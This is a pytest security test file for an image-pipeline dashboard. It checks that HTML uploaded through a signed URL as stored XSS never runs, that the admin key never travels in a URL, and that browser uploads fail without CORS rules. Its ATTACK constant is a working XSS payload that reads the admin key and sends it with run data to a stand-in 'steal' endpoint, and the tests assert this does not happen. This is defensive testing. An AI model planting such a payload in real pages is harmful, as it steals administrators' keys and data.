"""The dashboard under attack and across origins, in headless Chromium on a devhost with keys enforced.

1. Stored XSS: a client with only a function key gets a signed upload URL and PUTs HTML as ``text/html``.
   Opening the image-content URL with the admin key in it, as the run view once linked it, must not run
   the attacker's script; the dashboard, given the key in its URL fragment, must strip it, never send it in
   any URL, and show the attacker's run without running anything.
2. Browser direct upload: the dashboard (origin A) PUTs an image through the signed URL to Azurite (origin
   B). It works with the CORS rules of ``imagepipe.cors`` applied, as Terraform applies them to Azure, and
   is refused without them (nothing is stored).
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests
from azure.storage.blob import BlobServiceClient

from devhost.azurite import connection_string
from imagepipe.adapters.azure_blob import AzureBlobStore
from imagepipe.cors import apply_cors, apply_local_cors, cors_rules
from tests.support import browser
from tests.support.devhost import ROOT, Devhost, free_port
from tests.support.waiting import eventually_value

pytestmark = [pytest.mark.dashboard, pytest.mark.skipif(browser.missing() is not None, reason=str(browser.missing()))]

CHROMIUM = browser.chromium()
DRIVER = Path(__file__).with_name("dashboard_security_driver.cjs")
ARTIFACTS = ROOT / "test-artifacts"
CAT = ROOT / "samples" / "cat.jpg"
STEAL = "http://127.0.0.1:9/steal"
ATTACK = (
    "<!doctype html><title>innocent</title><script>document.title='pwned';"
    "const k=new URLSearchParams(location.search).get('code');"
    "fetch('/api/runs',{headers:{'x-functions-key':k}}).then(r=>r.text())"
    f".then(t=>{{new Image().src='{STEAL}?k='+encodeURIComponent(k)+'&d='+encodeURIComponent(t.slice(0,200))}});"
    "</script>"
)


class SecureStack:
    """The app on a devhost that enforces keys, with its own Azurite (CORS rules for the devhost's origin)."""

    def __init__(self, state: Path) -> None:
        port = free_port()
        self.connection = connection_string(port)
        env = {
            "IMAGES_STORAGE": self.connection,
            "IMAGES_CONTAINER": "images",
            "AZURITE_BLOB_PORT": str(port),
            "RECORD_STORE": "sqlite",
            "RECORDS_SQLITE_PATH": str(state / "records.sqlite3"),
            "VISION_PROVIDER": "local",
            "RECONCILE_SCHEDULE": "0 0 0 1 1 *",
            "DEVHOST_EVENTGRID_RETRY_SCALE": "0.01",
        }
        self.host = Devhost(ROOT, state / "devhost", env=env, no_auth=False, storage="azurite").start(timeout=120)
        self.blobs = AzureBlobStore("images", connection_string=self.connection)
        self.blobs.ensure_container()
        self.service = BlobServiceClient.from_connection_string(self.connection)
        keys = self.host.keys()
        self.function_key: str = keys["functionKeys"]["default"]
        self.master: str = keys["masterKey"]

    def call(self, method: str, path: str, key: str, **kwargs: Any) -> requests.Response:
        return requests.request(method, self.host.base + path, headers={"x-functions-key": key}, timeout=30, **kwargs)

    def stop(self) -> None:
        """Stop the devhost by process group; it stops its Azurite."""
        self.service.close()
        self.host.stop()


@pytest.fixture(scope="module")
def secure(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SecureStack]:
    running = SecureStack(tmp_path_factory.mktemp("secure"))
    try:
        yield running
    finally:
        running.stop()


def drive(stack: SecureStack, **spec: Any) -> dict[str, Any]:
    ARTIFACTS.mkdir(exist_ok=True)
    spec |= {"base": stack.host.base, "master": stack.master, "image": str(CAT), "outDir": str(ARTIFACTS)}
    spec["chromium"] = str(CHROMIUM)
    return browser.run_driver(DRIVER, json.dumps(spec), timeout=300)


def unexpected(console_errors: list[str]) -> list[str]:
    """Console errors other than the browser's note on a refused (4xx) load; a CSP violation is one of them."""
    return [
        e
        for e in console_errors
        if not e.startswith("Failed to load resource: the server responded with a status of 4")
    ]


def finished_run(stack: SecureStack, image_id: str, timeout: float = 90) -> dict[str, Any]:
    def finished() -> list[dict[str, Any]]:
        runs = stack.call("GET", "/api/runs", stack.master).json()["items"]
        mine = [r for r in runs if r["imageId"] == image_id]
        return mine if mine and mine[0]["runtimeStatus"] in ("Completed", "Failed", "Terminated") else []

    return dict(eventually_value(finished, timeout, interval=0.5, what=f"a finished run for {image_id}")[0])


def test_html_uploaded_by_sas_never_runs_and_the_key_never_travels_in_a_url(secure: SecureStack) -> None:
    apply_local_cors(secure.connection, [secure.host.base])
    ticket = secure.call("POST", "/api/uploads", secure.function_key, json={"contentType": "image/png"}).json()
    put = requests.put(
        ticket["uploadUrl"],
        data=ATTACK.encode(),
        headers={**ticket["requiredHeaders"], "Content-Type": "text/html"},
        timeout=30,
    )
    assert put.status_code == 201, put.text
    attack_id = ticket["id"]
    run = finished_run(secure, attack_id)
    assert run["runtimeStatus"] == "Failed", run

    seen = drive(secure, phase="attack", attackId=attack_id, attackRun=run["instanceId"])

    lure = seen["lure"]
    assert lure["status"] in (404, 415), lure
    assert not lure["contentType"].startswith("text/html"), lure
    assert lure["title"] != "pwned" and lure["laterRequests"] == [], lure
    # the dashboard took the key from the fragment, removed it, and never put it into any URL
    assert "code" not in seen["urlAfterLoad"] and "#" not in seen["urlAfterLoad"], seen["urlAfterLoad"]
    assert seen["keyPanelHidden"] is True
    assert [r["url"] for r in seen["requests"] if secure.master in r["url"]] == []
    assert [r["url"] for r in seen["requests"] if r["url"].startswith(STEAL)] == []
    assert seen["titleAfterAttack"] == "imagepipe operations"
    assert seen["attackCaption"].startswith("image: 4"), seen["attackCaption"]
    assert seen["attackCanvas"] == [10, 10]
    # direct upload through the signed URL from the dashboard's origin to Azurite's
    assert secure.host.base.split(":")[-1] != secure.connection.split("127.0.0.1:")[1].split("/")[0]
    assert seen["upload"]["status"] == "completed", seen["upload"]
    assert [p["status"] for p in seen["puts"]] == [201], seen["puts"]
    assert any(tag.startswith("cat") for tag in seen["uploadTags"]), seen["uploadTags"]
    assert unexpected(seen["consoleErrors"]) == [], seen["consoleErrors"]
    assert (ARTIFACTS / "dashboard-uploaded.png").stat().st_size > 10_000


def test_without_the_cors_rule_a_browser_upload_is_refused(secure: SecureStack) -> None:
    apply_cors(secure.service, [])
    assert secure.service.get_service_properties()["cors"] == []
    before = {b.name for b in secure.blobs.list()}
    try:
        seen = drive(secure, phase="nocors")
    finally:
        apply_cors(secure.service, cors_rules([secure.host.base]))
    # the key in the query string was stripped and ignored; the key form worked
    assert "code" not in seen["urlAfterQueryKey"] and seen["urlAfterQueryKey"].endswith("?status=Failed")
    assert seen["keyPanelHidden"] is True and seen["statusFilter"] == "Failed"
    assert seen["upload"]["status"] == "refused", seen["upload"]
    assert seen["puts"] == []  # the preflight failed: the PUT itself was never sent
    assert any("CORS" in e for e in seen["consoleErrors"]), seen["consoleErrors"]
    assert {b.name for b in secure.blobs.list()} == before
